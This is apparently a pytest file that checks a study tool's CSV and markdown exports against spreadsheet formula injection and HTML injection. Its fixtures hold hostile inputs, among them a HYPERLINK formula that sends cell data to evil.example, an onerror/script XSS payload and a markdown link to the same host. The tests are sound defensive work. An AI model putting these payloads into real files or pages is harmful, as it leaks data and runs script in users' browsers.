"""Exports a spreadsheet cannot be tricked by: formula-like text kept as text, a bare `\\r`
kept inside its row, numbers untouched, the analysis reading back exactly what was stored,
and `report.md` showing hostile titles and ids as text."""

from __future__ import annotations

import csv
import random
import re
from pathlib import Path

import pandas as pd
import pytest
from analysis_fixtures import simulate_trial_table, write_export_folder

from analysis.report import ReportOptions, analyse, write_report
from analysis.report.render import write_report_table
from analysis.spreadsheet_cells import FORMULA_STARTS, plain_cell, safe_cell
from analysis.trial_table import load_trial_table
from uxlab.cli import main
from uxlab.store import Store
from uxlab.study import load_study

GOOD = Path(__file__).parent / "data" / "bad_studies" / "good.toml"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
OPTION = "-2+3 (much slower)"
HOSTILE = [FORMULA, "+1+1", "-1+1", "@SUM(A1:A9)", "\tpadded", "\r=1+1", "'=already", "''-x"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote_and_comes_back_unchanged(text):
    cell = safe_cell(text)
    assert cell.startswith("'") and not cell.startswith(FORMULA_STARTS)
    assert plain_cell(cell) == text


@pytest.mark.parametrize("value", [-1.5, -3, "-1.5e3", "-2", "+4", "0.5", "plain text", "", None])
def test_numbers_and_plain_text_are_never_changed(value):
    assert safe_cell(value) == value
    assert plain_cell(value) == value


def test_any_text_round_trips_and_never_starts_a_formula():
    """Seeded random strings over the characters that matter: escaping is exactly undone."""
    rng = random.Random(22)
    alphabet = "=+-@\t\r'a1.eE "
    for _ in range(5000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 6)))
        cell = safe_cell(text)
        assert plain_cell(cell) == text
        if cell.startswith(FORMULA_STARTS):  # only a plain number may start so
            assert float(cell) == float(text)


def hostile_study(tmp_path: Path) -> Path:
    text = GOOD.read_text(encoding="utf-8")
    text = text.replace('title = "', 'title = "<b>Evil</b> # ', 1)
    text = text.replace('corpus = "corpus"', f'corpus = "{(GOOD.parent / "corpus").as_posix()}"')
    text += f"""
[[questions]]
id = "why"
type = "text"
text = "Why?"

[[questions]]
id = "pick"
type = "choice"
text = "Pick one"
options = ["{OPTION}", "same"]
"""
    path = tmp_path / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return path


def make_db(tmp_path: Path) -> Path:
    study = load_study(hostile_study(tmp_path))
    db = tmp_path / "h.sqlite"
    with Store.open(db) as store:
        session = store.sessions.start_or_resume(study, "P-AAAAA")
        store.sessions.set_state(session, "consented")
        store.sessions.set_state(session, "running")
        for i, why in enumerate([FORMULA, "line one\rline two", "fine"]):
            store.trials.begin(session, i)
            store.trials.commit(
                session,
                i,
                "completed",
                {"shown_first_ms": 300.0, "shown_last_ms": 900.0, "scheduled_end_ms": 900.0},
                {"acceptable": ("yes", 1200.0), "why": (why, 800.0), "pick": (OPTION, 300.0)},
                [{"kind": "key", "t_ms": -250.5, "key": "=1+1"}, {"kind": "chunk", "t_ms": 300.0}],
            )
    return db


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_export_writes_safe_cells_and_a_bare_cr_stays_in_its_row(tmp_path, capsys):
    db = make_db(tmp_path)
    out = tmp_path / "out"
    assert main(["export", str(db), "-o", str(out)]) == 0
    trials = read_rows(out / "trials.csv")
    assert len(trials) == 3  # the \r did not split a row
    assert [t["q_why"] for t in trials] == ["'" + FORMULA, "line one\rline two", "fine"]
    assert {t["q_pick"] for t in trials} == {"'" + OPTION}
    raw_lines = (out / "trials.csv").read_text(encoding="utf-8").split("\n")
    assert all(not line.startswith(FORMULA_STARTS) for line in raw_lines)
    events = read_rows(out / "events.csv")
    assert "-250.5" in [e["t_ms"] for e in events]  # a negative number stays a number

    # the analysis reads back exactly what was stored, numbers as numbers
    table = load_trial_table(out)
    assert list(table.trials["q_why"]) == [FORMULA, "line one\rline two", "fine"]
    assert set(table.trials["q_pick"]) == {OPTION}
    assert pd.api.types.is_numeric_dtype(table.trials["shown_first_ms"])

    raw = tmp_path / "raw"
    assert main(["export", str(db), "-o", str(raw), "--raw-cells"]) == 0
    rows = read_rows(raw / "trials.csv")
    assert rows[0]["q_why"] == FORMULA and rows[1]["q_why"] == "line one\rline two"


@pytest.mark.slow
def test_report_csv_and_markdown_keep_hostile_strings_inert(tmp_path):
    trials = simulate_trial_table(n_participants=6, reps=2)
    evil_id = "<img src=x onerror=alert(1)>"
    last = sorted(trials["participant"].unique())[-1]  # fails the attention checks: listed
    trials["participant"] = trials["participant"].replace({last: evil_id})
    folder = write_export_folder(tmp_path / "export", trials)
    title = "# <script>alert(1)</script> [click](http://evil.example)"
    data = analyse(load_trial_table(folder), ReportOptions(n_boot=50, seed=0, title=title))
    paths = write_report(data, tmp_path / "report")
    md = paths["markdown"].read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<", md)  # no raw HTML: every `<` is escaped
    assert not re.search(r"(?<!\\)\]\(http", md)  # no link to it: its `]` is escaped
    assert md.startswith("# \\# \\<script\\>")
    assert "\\<img src=x onerror=alert(1)\\>" in md  # still there, as text

    frame = pd.DataFrame(
        {"group": ["=1+1", "pooled"], "estimate": [-12.5, 1150.0], "n": [3, 4]},
    )
    path = tmp_path / "t.csv"
    write_report_table(frame, path)
    back = pd.read_csv(path)
    assert list(back["group"]) == ["'=1+1", "pooled"]
    assert list(back["estimate"]) == [-12.5, 1150.0]


def test_any_rows_survive_the_csv_round_trip(tmp_path):
    """Seeded random cells with CR, LF, quotes, commas and formula starts: every row comes
    back whole (no split rows) and every cell exactly, after `plain_cell`."""
    from analysis.spreadsheet_cells import write_safe_csv

    rng = random.Random(7)
    alphabet = "=+-@\t\r\n\"',a1 ."
    rows = [
        ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8))) for _ in range(4)]
        for _ in range(2000)
    ]
    path = tmp_path / "fuzz.csv"
    write_safe_csv(path, ["a", "b", "c", "d"], rows)
    with path.open(newline="", encoding="utf-8") as fh:
        back = list(csv.reader(fh))
    assert back[0] == ["a", "b", "c", "d"]
    assert [[plain_cell(c) for c in row] for row in back[1:]] == rows
